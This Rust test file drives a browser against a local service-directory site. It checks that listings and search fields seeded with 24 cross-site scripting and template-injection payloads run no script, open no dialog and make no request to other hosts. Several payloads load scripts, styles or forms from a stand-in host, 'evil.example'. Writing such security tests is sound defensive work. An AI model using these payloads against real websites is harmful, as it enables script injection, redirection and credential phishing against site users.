//! Text that agencies publish and people type is text: it runs nothing and asks for nothing.

use fantoccini::Locator;
use fantoccini::error::CmdError;
use referral_core::catalog::Record;
use referral_core::text::{Name, Text};

use crate::browser::Browser;
use crate::listing::Listing;
use crate::site::Site;

/// What would run in a page that let it.
const PAYLOADS: [&str; 24] = [
    "<script>alert(1)</script>",
    "</h3><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><img src=//evil.example/x.png>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x></object>",
    "<form action=//evil.example/><button>Search</button></form>",
    "<details open ontoggle=alert(1)>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;<!--",
];

#[tokio::test]
async fn hostile_listings_run_nothing_and_ask_for_nothing() {
    let listings: Vec<Listing> = (0..PAYLOADS.len())
        .map(|n| {
            Listing::new(&format!("s{n}"), &format!("hostile {n}")).at("100 Light St", "21202")
        })
        .collect();
    let site = Site::of_changed(&listings, poison);
    let browser = Browser::start().await;

    // What would help names the best of them; then all of them, page after page.
    for page in ["/?near=21202", "/?near=21202&availability=any"] {
        let url = format!("{}{page}", site.url);
        browser.page.goto(&url).await.expect("the page");
        stays_quiet(&browser, &site).await;
    }
    let mut shown = browser.texts("#answer article h3").await;
    let next = browser.wait_for("button[name=page]").await;
    next.click().await.expect("a click");
    let last = format!(
        "//p[@role='status'][contains(., '21 to {}')]",
        PAYLOADS.len()
    );
    browser.wait(Locator::XPath(&last)).await;
    stays_quiet(&browser, &site).await;
    shown.extend(browser.texts("#answer article h3").await);
    assert_eq!(shown.len(), PAYLOADS.len());
    assert!(
        shown.iter().all(|name| PAYLOADS.contains(&name.as_str())),
        "{shown:?}"
    );
}

#[tokio::test]
async fn hostile_searches_run_nothing_and_ask_for_nothing() {
    let site = Site::empty();
    let browser = Browser::start().await;
    for payload in PAYLOADS {
        let mut url = url::Url::parse(&site.url).expect("an address");
        for field in [
            "need",
            "near",
            "radius",
            "text",
            "serves",
            "language",
            "availability",
            "access",
            "fee",
            "age",
            "custody",
            "nationality",
            "filter",
            "page",
        ] {
            url.query_pairs_mut().append_pair(field, payload);
        }
        browser.page.goto(url.as_str()).await.expect("the page");
        stays_quiet(&browser, &site).await;
        assert_eq!(browser.value("#text").await, payload);
    }
}

#[tokio::test]
async fn the_check_itself_sees_a_script_a_dialog_and_a_stranger() {
    let site = Site::empty();
    let browser = Browser::start().await;
    browser.page.goto(&site.url).await.expect("the page");
    let _earlier = (browser.complaints().await, browser.requests().await);
    let spoil = "const script = document.createElement('script');\
                 script.textContent = 'alert(1)';\
                 document.body.append(script)";
    let spoilt = browser.page.execute(spoil, Vec::new()).await;
    spoilt.expect("the page is spoilt");
    let complaints = browser.complaints().await.join("\n");
    assert!(
        complaints.contains("Content Security Policy"),
        "{complaints}"
    );

    let bad = "data:text/html,<img src=http://evil.example/x.png><script>alert(2)</script>";
    browser.page.goto(bad).await.expect("a page");
    let dialog = browser.page.get_alert_text().await;
    assert_eq!(dialog.expect("a dialog"), "2");
    browser.page.dismiss_alert().await.expect("it is closed");
    let requests = browser.requests().await.join("\n");
    assert!(requests.contains("evil.example"), "{requests}");
}

/// No dialog, no refused script or picture, no request to anybody else.
async fn stays_quiet(browser: &Browser, site: &Site) {
    let dialog = browser.page.get_alert_text().await;
    assert!(
        matches!(&dialog, Err(CmdError::Standard(error)) if error.error() == "no such alert"),
        "{dialog:?}"
    );
    let complaints = browser.complaints().await;
    let complaints: Vec<&String> = complaints
        .iter()
        .filter(|complaint| !complaint.contains("400 (Bad Request)"))
        .collect();
    assert!(complaints.is_empty(), "{complaints:#?}");
    let requests = browser.requests().await;
    assert!(
        requests.iter().any(|url| url.ends_with("/style.css")),
        "{requests:?}"
    );
    let strangers: Vec<&String> = requests
        .iter()
        .filter(|url| !url.starts_with(&site.url))
        .collect();
    assert!(strangers.is_empty(), "{strangers:?}");
}

/// Puts a payload into every text of a record.
fn poison(record: &mut Record) {
    let number = |id: &str| id.trim_start_matches('s').parse::<usize>();
    let payload = PAYLOADS[number(record.id().as_str()).expect("a number") % PAYLOADS.len()];
    let name = Name::parse(payload).expect("a name");
    let text = Text::parse(payload).expect("a text");
    match record {
        Record::Organization(organization) => {
            organization.name = name;
            organization.description = Some(text);
        }
        Record::Location(location) => {
            location.name = Some(name.clone());
            if let referral_core::catalog::Place::Approximate { address, .. } = &mut location.place
            {
                address.address_1 = Some(name.clone());
                address.address_2 = Some(name);
            }
        }
        Record::Service(service) => {
            service.name = name;
            service.description = Some(text.clone());
            service.alert = Some(text.clone());
            service.eligibility_description = Some(text.clone());
            service.application_process = Some(text.clone());
            service.fees_description = Some(text);
        }
    }
}
